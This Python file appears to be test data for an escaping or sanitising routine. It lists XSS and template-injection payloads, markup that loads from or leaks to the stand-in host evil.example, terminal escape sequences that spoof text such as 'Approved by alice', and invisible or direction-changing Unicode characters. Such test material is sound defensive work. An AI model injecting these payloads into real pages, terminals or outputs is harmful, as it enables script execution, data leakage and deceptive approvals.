"""Texts that want to be more than text: markup, scripts, terminal escapes, invisible and direction characters. All our own."""

MARKUP = (
    "<script>pwned()</script>",
    "</script><script src=//evil.example/x.js></script>",
    "<ScRiPt >pwned()</sCrIpT >",
    "<img src=x onerror=pwned()>",
    '"><img src="http://evil.example/leak?page=1">',
    "'><svg/onload=pwned()>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<iframe src=http://evil.example/></iframe>",
    "<iframe srcdoc='&lt;script&gt;pwned()&lt;/script&gt;'>",
    "<object data=http://evil.example/x></object><embed src=http://evil.example/x>",
    "<form action=http://evil.example/><button>Approve</button></form>",
    "<input name=token autofocus onfocus=pwned()>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import url(http://evil.example/x.css); .choice{display:none}</style>",
    "<base href=http://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "</bdi></li></ol></section></main><h1>Nothing is wrong.</h1>",
    "</title><script>pwned()</script>",
    "</textarea></pre><video src=http://evil.example/v autoplay>",
    "<a href=javascript:pwned()>raw:1</a>",
    "javascript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "<!-- --><![CDATA[<script>pwned()</script>]]>",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "{{ 7 * 7 }}{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "![x](http://evil.example/leak.png) [Approve](http://evil.example/)",
    "<details open ontoggle=pwned()><dialog open>Approve</dialog>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "<x onclick=pwned() style=position:fixed;inset:0>cover</x>",
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
)

STEERING = (
    "\x1b[2J\x1b[31mred",
    "\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07",
    "\x1b]0;title\x07",
    "\x9b31m\x9d0;x\x9c",
    "back\x08\x08\x7f\r\nApproved by alice",
    "nul\x00 bell\x07 feed\x0c",
    "abc\u202edcba\u202c",
    "\u2066isolated\u2069 \u2067right\u2069 \u2068first\u2069",
    "\u200emark\u200f \u061carabic mark",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff",
    "line\u2028paragraph\u2029",
    "tags \U000e0041\U000e0070\U000e0070\U000e007f",
    "soft\u00adhyphen interlinear\ufff9x\ufffa",
    "half \ud800 a pair, other \udc00",
    "private \ue000 unassigned \U000e1234 \uffff",
    "combining " + "e\u0301\u0327\u0330" * 60,
    "עברית and عربى beside left to right",
)

FLOODS = (
    "<" * 5000,
    "&" * 5000,
    '"' * 5000,
    "'" * 5000,
    "\u202e" * 5000,
    "\U0001d54f" * 5000,
    "\n" * 5000,
)

TEXTS = (*MARKUP, *STEERING, *FLOODS)

STEERING_CHARACTERS = frozenset(
    chr(code)
    for code in (
        *range(9),
        0x0B,
        0x0C,
        *range(0x0E, 0x20),
        *range(0x7F, 0xA0),
        0xAD,
        0x61C,
        *range(0x200B, 0x2010),
        *range(0x2028, 0x202F),
        *range(0x2060, 0x2070),
        0xFEFF,
        *range(0xFFF9, 0xFFFC),
        *range(0xE0000, 0xE0080),
    )
)
